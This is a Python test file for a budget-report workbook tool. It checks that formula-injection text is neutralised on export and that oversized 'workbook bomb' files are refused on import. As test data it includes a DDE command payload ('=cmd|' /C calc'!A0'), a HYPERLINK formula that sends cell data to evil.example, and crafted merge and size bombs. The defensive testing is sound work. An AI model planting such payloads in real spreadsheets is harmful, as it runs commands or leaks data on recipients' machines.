"""Hostile text in the workbooks we write and hostile workbooks we read (issue 13: items 1, 5, 6, 13)."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from yujuesuan import pipeline
from yujuesuan.errors import Findings, InputError
from yujuesuan.profiles import load_profile
from yujuesuan.workflows.xlsx import export_workbook, import_workbook
from yujuesuan.workflows.xlsx.textcells import DANGEROUS, neutralize, restore

FORMULAS = {
    "咨询电话": "=cmd|' /C calc'!A0",
    "收支总计变动原因": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "收入变动原因": "+1+1",
    "支出变动原因": "-2-3",
    "财政拨款收支变动原因": "@SUM(1,2)",
    "一般公共预算财政拨款收入变动原因": "'=已加引号",
    "一般公共预算财政拨款支出变动原因": "＝全角等号",
}


def _hostile_sample(sample_text: str) -> str:
    text = sample_text.replace('  咨询电话: "68865800"', '  咨询电话: "=cmd|\' /C calc\'!A0"')
    for key, value in FORMULAS.items():
        if key == "咨询电话":
            continue
        old = f"  {key}: 本年有新进人员及人员经费的正常增加\n"
        assert old in text, key
        quoted = value.replace("\\", "\\\\").replace('"', '\\"')
        text = text.replace(old, f'  {key}: "{quoted}"\n', 1)
    text += '\n自定义科目:\n  "30299": "=cmd|\' /C calc\'!A0"\n'
    return text


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\tx", "\rx", "'x", "''=", "'", "a=b", "", "＝1"])
def test_neutralize_round_trips(text):
    stored = neutralize(text)
    assert not stored.startswith(DANGEROUS)
    assert restore(stored) == text


def test_workbook_has_no_formula_and_text_round_trips(tmp_path: Path, sample_text: str):
    path = tmp_path / "unit.yaml"
    path.write_text(_hostile_sample(sample_text), encoding="utf-8")
    first = pipeline.check(path)
    assert first.ok, [f.format() for f in first.findings]
    data = export_workbook(first.figures, load_profile("wuhan"))
    wb = openpyxl.load_workbook(io.BytesIO(data))
    strings = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    strings += 1
                    assert not cell.value.startswith(DANGEROUS), f"{ws.title}!{cell.coordinate}: {cell.value!r}"
    assert strings > 100
    # No formula element in any sheet's XML either (what Excel actually reads).
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name
    # The 公开 tables show the custom name neutralized.
    shown = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'=cmd|' /C calc'!A0" in shown
    book = tmp_path / "unit.xlsx"
    book.write_bytes(data)
    found = Findings()
    imported = import_workbook(book, found)
    again_path = tmp_path / "again.yaml"
    again_path.write_text(imported, encoding="utf-8")
    again = pipeline.check(again_path)
    assert again.ok, [f.format() for f in again.findings]
    assert again.model.phone == first.model.phone == "=cmd|' /C calc'!A0"
    assert again.model.custom_names["30299"] == "=cmd|' /C calc'!A0"
    for key, value in FORMULAS.items():
        if key != "咨询电话":
            assert again.model.reasons[key] == first.model.reasons[key] == value, key


# --------------------------------------------------------------------------- workbook bombs (item 5)

MAIN = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"


@pytest.fixture(scope="module")
def exported(sample_checked) -> bytes:
    return export_workbook(sample_checked.figures, load_profile("wuhan"))


def _rewrite(data: bytes, change) -> bytes:
    """``data`` with change(name, content) → (name, content) applied to every zip entry."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            name, content = change(info.filename, src.read(info))
            dst.writestr(name, content)
    return out.getvalue()


def _first_sheet(data: bytes) -> str:
    names = sorted(n for n in zipfile.ZipFile(io.BytesIO(data)).namelist() if n.startswith("xl/worksheets/sheet"))
    return names[0]


def _import_rules(tmp_path: Path, data: bytes) -> list[str]:
    book = tmp_path / "bomb.xlsx"
    book.write_bytes(data)
    with pytest.raises(InputError) as info:
        import_workbook(book)
    return [f.rule for f in info.value.findings]


def _merge(xml: bytes, merge: bytes) -> bytes:
    return xml.replace(b"</sheetData>", b"</sheetData>" + merge, 1)


@pytest.mark.parametrize(
    "merge",
    [
        pytest.param(b"<mergeCells count='1'><mergeCell ref='E100:XFD1048576'/></mergeCells>", id="single-quoted"),
        pytest.param(b'<mergeCells count="1"><mergeCell  ref = "$e$100:$xfd$1048576" /></mergeCells>', id="spaced"),
        pytest.param(
            b'<q-x:mergeCells xmlns:q-x="' + MAIN + b'" count="1">'
            b'<q-x:mergeCell ref="E100:XFD1048576"/></q-x:mergeCells>',
            id="dashed-prefix",
        ),
    ],
)
def test_huge_merge_however_written_is_refused(tmp_path, exported, merge):
    sheet = _first_sheet(exported)
    data = _rewrite(exported, lambda n, c: (n, _merge(c, merge) if n == sheet else c))
    assert _import_rules(tmp_path, data) == ["xlsx-merge"]


def test_cells_with_a_dashed_namespace_prefix_are_counted(tmp_path, exported):
    sheet = _first_sheet(exported)
    rows = b"".join(
        b'<x-y:row r="%d">' % r
        + b"".join(b'<x-y:c r="%s%d"><x-y:v>1</x-y:v></x-y:c>' % (col, r) for col in (b"A", b"B"))
        + b"</x-y:row>"
        for r in range(20_000, 20_000 + 100_001)
    )

    def change(name: str, content: bytes) -> tuple[str, bytes]:
        if name != sheet:
            return name, content
        content = content.replace(b"<worksheet ", b'<worksheet xmlns:x-y="' + MAIN + b'" ', 1)
        return name, content.replace(b"</sheetData>", rows + b"</sheetData>", 1)

    assert _import_rules(tmp_path, _rewrite(exported, change)) == ["xlsx-size"]


def test_a_sheet_outside_xl_worksheets_is_counted_too(tmp_path, exported):
    sheet = _first_sheet(exported)
    hidden = "xl/elsewhere/data.bin"
    merge = b"<mergeCells count='1'><mergeCell ref='A100:Z100000'/></mergeCells>"

    def change(name: str, content: bytes) -> tuple[str, bytes]:
        if name == sheet:
            return hidden, _merge(content, merge)
        target = sheet.removeprefix("xl/").encode()
        if name == "xl/_rels/workbook.xml.rels":
            return name, content.replace(target, b"elsewhere/data.bin")
        if name == "[Content_Types].xml":
            return name, content.replace(b"/" + sheet.encode(), b"/" + hidden.encode())
        return name, content

    assert _import_rules(tmp_path, _rewrite(exported, change)) == ["xlsx-merge"]
